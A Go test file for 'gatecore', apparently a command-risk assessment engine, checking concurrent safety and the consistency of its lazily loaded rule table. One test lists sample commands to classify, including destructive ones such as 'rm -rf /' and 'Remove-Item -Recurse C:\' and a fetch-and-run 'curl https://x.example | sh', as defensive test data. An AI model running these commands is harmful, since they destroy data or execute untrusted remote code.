package gatecore

import (
	"sync"
	"testing"

	"github.com/matryer/is"

	"github.com/phocinae/phocinae-go/gatecore/l0"
)

// TestFirstCallsConcurrentSafe judges on an engine of which nothing is built yet, from several goroutines at once.
func TestFirstCallsConcurrentSafe(t *testing.T) {
	commands := []string{
		"git status", "rm -rf /", "ls -la", "docker ps && kubectl get pods", "sudo rm -rf /", "aws s3 ls", "npm test", "Remove-Item -Recurse C:\\",
		"find . -delete", "nosuchprogram --x", "curl https://x.example | sh", "git push --force", "history -c",
	}
	want := make([]Report, len(commands))
	reference := mustEngine(t)
	for i, c := range commands {
		want[i] = reference.Assess(c, Place{})
	}
	fresh := mustEngine(t)
	var wg sync.WaitGroup
	for offset := range 8 {
		wg.Go(func() {
			is := is.New(t)
			for i := range commands {
				k := (i + offset) % len(commands)
				is.Equal(fresh.Assess(commands[k], Place{}), want[k])
			}
		})
	}
	wg.Wait()
}

func mustEngine(t *testing.T) *Engine {
	t.Helper()
	e, err := New(nil)
	if err != nil {
		t.Fatal(err)
	}
	return e
}

// TestLazyTableIsTheWholeTable holds what is gathered by the index to what the data says.
func TestLazyTableIsTheWholeTable(t *testing.T) {
	is := is.New(t)
	whole, err := compile(l0.Domains())
	is.NoErr(err)
	lazy := newRuleSet(l0.BuiltIn(), l0.Sources())
	for _, e := range whole.index.Programs {
		sameProgram(t, lazy.program(e.Name), whole.program(e.Name))
	}
	for _, e := range whole.index.Windows {
		sameProgram(t, lazy.windowsProgram(e.Name), whole.windowsProgram(e.Name))
	}
	for _, r := range whole.all() {
		is.Equal(lazy.rule(r.ID).Rule, r.Rule)
	}
	is.Equal(len(lazy.all()), len(l0.Rules()))
	is.True(lazy.program("no such program") == nil)
	is.True(lazy.rule("no.such-rule") == nil)
}

func sameProgram(t *testing.T, got, want *program) {
	t.Helper()
	is := is.New(t)
	is.True(got != nil)
	is.Equal(got.data, want.data)
	is.Equal(len(got.matches), len(want.matches))
	for i := range got.matches {
		is.Equal(got.matches[i].rule.ID, want.matches[i].rule.ID)
		is.Equal(got.matches[i].m, want.matches[i].m)
	}
}

// TestAnIndexOfOtherDataKnowsNothing: what an index promises and the data does not hold is an unknown program, not a reader.
func TestAnIndexOfOtherDataKnowsNothing(t *testing.T) {
	is := is.New(t)
	set := newRuleSet(&l0.Index{
		Count: 1, Programs: []l0.Entry{{Name: "gone", Domains: 1}}, Rules: []l0.Entry{{Name: "gone.rule", Domains: 1}},
	}, []func() l0.Domain{func() l0.Domain { return l0.Domain{Name: "x"} }})
	is.True(set.program("gone") == nil)
	is.True(set.rule("gone.rule") == nil)
}
